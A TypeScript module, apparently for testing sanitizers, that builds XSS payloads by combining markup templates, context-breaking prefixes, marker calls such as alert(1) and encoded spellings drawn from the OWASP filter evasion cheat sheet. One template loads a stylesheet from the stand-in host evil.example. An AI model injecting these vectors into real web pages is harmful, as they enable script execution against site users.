/** What a payload runs where it runs at all; pages that are looked at count it. */
const RUNS = ['xss()', 'alert(1)', 'xss`1`', 'top.xss()', "window['xss']()", 'eval("xss()")'] as const
/** What would lead out of the place that a text stands in. */
const BREAKS = ['', '">', "'>", '</title>', '</script>', '</style>', '-->', '</textarea>', ']]>', '`>', '\\">', '&quot;>'] as const

type Make = (run: string) => string
/** Markup that runs something, in the ways browsers know. Source: cheatsheetseries.owasp.org, XSS filter evasion (2026-11-27); written anew. */
const MARKUP: readonly Make[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<body onload=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<iframe src="javascript:${run}">`,
  (run) => `<iframe srcdoc="<script>${run}</script>">`,
  (run) => `<object data="javascript:${run}">`,
  (run) => `<form action="javascript:${run}"><button>x`,
  (run) => `<math href="javascript:${run}">x`,
  (run) => `<svg><script>${run}</script>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x>`,
  (run) => `<video><source onerror=${run}>`,
  (run) => `<ScRiPt>${run}</sCrIpT>`,
  (run) => `<img/src=x/onerror=${run}>`,
  (run) => `<x onpointerenter=${run} style="position:fixed;inset:0">`,
  (run) => `<style>@import "javascript:${run}"</style>`,
  (run) => `<base href="javascript:${run}//">`,
  (run) => `<meta http-equiv=refresh content="0;javascript:${run}">`,
  (run) => `<link rel=stylesheet href="//evil.example/x">${run}`,
  (run) => `javascript:${run}`,
  (run) => ` autofocus onfocus=${run} x=`,
  (run) => `[x](javascript:${run})`,
  (run) => `![x](x"onerror="${run})`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
]

/** How a payload is spelled. */
const SPELLINGS: readonly ((text: string) => string)[] = [
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '\\u003c'),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
]

/** How many there are before one comes again, and how far one is from the next, so that a few are of all kinds. */
const KINDS = MARKUP.length * BREAKS.length * RUNS.length
const STRIDE = 569

/** The first `count` payloads: each markup, what it breaks out of and what it runs; every third in another spelling. */
export function payloads(count: number): readonly string[] {
  return Array.from({ length: count }, (_, number) => {
    const index = (number * STRIDE) % KINDS
    const pick = <Item>(list: readonly Item[], step: number): Item => list[Math.floor(index / step) % list.length] as Item
    const text = pick(BREAKS, MARKUP.length) + pick(MARKUP, 1)(pick(RUNS, MARKUP.length * BREAKS.length))
    return number % 3 === 2 ? pick(SPELLINGS, 3)(text) : text
  })
}
